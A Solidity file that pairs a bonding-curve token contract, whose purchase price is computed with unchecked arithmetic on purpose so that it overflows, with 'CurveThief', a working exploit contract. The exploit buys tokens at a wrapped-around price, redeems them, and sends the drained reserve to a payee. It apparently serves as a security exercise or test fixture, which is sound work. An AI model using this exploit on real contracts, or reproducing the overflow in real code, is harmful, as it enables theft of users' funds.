// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// Sells its token dearer the more there is of it, and buys it back for a part of its coins. Compiled before arithmetic
/// was checked. Behind a proxy.
contract BondingCurve {
    Token public token;
    uint256 public reserve;
    uint256 private constant THETA = 75;

    event Purchase(address indexed buyer, uint256 amount, uint256 price);
    event Retire(address indexed seller, uint256 amount, uint256 refund);

    function initialize(uint256 supply, address to) external payable {
        require(address(token) == address(0), "initialized");
        token = new Token("TRU", 18);
        token.mint(to, supply);
        reserve = msg.value;
    }

    function getPurchasePrice(uint256 amount) public view returns (uint256) {
        unchecked {
            uint256 supply = token.totalSupply();
            uint256 numerator = 100 * amount * amount * reserve + 200 * supply * amount * reserve;
            return numerator / ((100 - THETA) * supply * supply);
        }
    }

    function getRetirePrice(uint256 amount) public view returns (uint256) {
        return reserve * amount / token.totalSupply();
    }

    function buy(uint256 amount) external payable {
        uint256 price = getPurchasePrice(amount);
        require(msg.value == price, "wrong price");
        reserve += price;
        token.mint(msg.sender, amount);
        emit Purchase(msg.sender, amount, price);
    }

    function retire(uint256 amount) external {
        uint256 refund = getRetirePrice(amount);
        token.transferFrom(msg.sender, address(this), amount);
        token.burn(amount);
        reserve -= refund;
        (bool ok,) = msg.sender.call{value: refund}("");
        require(ok, "not paid");
        emit Retire(msg.sender, amount, refund);
    }
}

/// Buys so many that the price wraps round to nothing, and sells them back, until a share of the coins is left.
contract CurveThief {
    function run(BondingCurve curve, uint256 left, address payable payee) external payable {
        Token token = curve.token();
        token.approve(address(curve), type(uint256).max);
        uint256 target = curve.reserve() * left / 100;
        while (curve.reserve() > target) {
            uint256 amount = least(token.totalSupply(), type(uint256).max / (100 * curve.reserve()));
            curve.buy{value: curve.getPurchasePrice(amount)}(amount);
            curve.retire(amount);
        }
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    /// The least amount for which 100 * amount * (amount + 2 * supply) * reserve does not fit.
    function least(uint256 supply, uint256 most) private pure returns (uint256) {
        (uint256 low, uint256 high) = (1, 1e38);
        while (low < high) {
            uint256 middle = (low + high) / 2;
            if (middle * (middle + 2 * supply) > most) high = middle;
            else low = middle + 1;
        }
        return low;
    }

    receive() external payable {}
}
